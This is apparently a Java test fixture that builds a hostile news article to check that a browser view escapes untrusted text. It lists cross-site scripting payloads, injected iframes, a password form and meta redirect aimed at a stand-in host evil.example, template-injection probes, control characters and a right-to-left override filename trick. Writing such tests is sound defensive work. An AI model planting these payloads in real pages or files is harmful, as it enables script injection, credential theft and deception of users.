package org.entente.app.desk.browser;

import java.util.List;
import org.entente.engine.ontology.Article;

/** An article by somebody who hopes that a page prints his text as it is. Whatever of it took effect leaves a trace. */
public final class Hostile {
    /** Set by each script of the article if it ever runs. */
    public static final String TRACE = "entenched";

    private static final String SCRIPT = "<script>window." + TRACE + "=1</script>";

    /** What it tries, one after the other. */
    public static final List<String> TRICKS = List.of(
            SCRIPT,
            "</title>" + SCRIPT,
            "\"><img src=x onerror=\"window." + TRACE + "=2\">",
            "'><svg onload='window." + TRACE + "=3'><circle r=9 /></svg>",
            "</textarea><iframe src=\"https://evil.example/\"></iframe>",
            "<style>main{display:none}</style><link rel=stylesheet href=//evil.example/a>",
            "<a href=\"javascript:window." + TRACE + "=4\" id=hostile>press here</a>",
            "<form action=\"https://evil.example/\"><input name=password></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><base href=\"https://evil.example/\">",
            "${7*7} {{7*7}} @if(true) <%= 7*7 %> <!-- ",
            // Letters that UTF-8 could not decode, and what may not stand in a document at all.
            "broken \uFFFD\uFFFD bytes \u0001\u0008\u001B[31m\u0085\uFFFE",
            // Turns what follows round: "cod.exe" would be read as "exe.doc".
            "turned \u202Eexe.doc\u2066 and not turned back");

    private Hostile() {}

    static Article article() {
        StringBuilder text = new StringBuilder("Tricks: " + SCRIPT);
        for (String trick : TRICKS) {
            // A sentence that makes an event, so that the trick stands in lists of events too.
            text.append("\n\nFRA meets DEU near ")
                    .append(trick.replace(".", "\u2024"))
                    .append('.');
            text.append("\n\n").append(trick);
        }
        return TrialStore.article(
                "Tricks: " + SCRIPT + TRICKS.get(11),
                text.toString(),
                TrialStore.TODAY.minusDays(2),
                "Outlet " + TRICKS.get(2) + TRICKS.get(3),
                "javascript:window." + TRACE + "=5//\"><script>");
    }
}
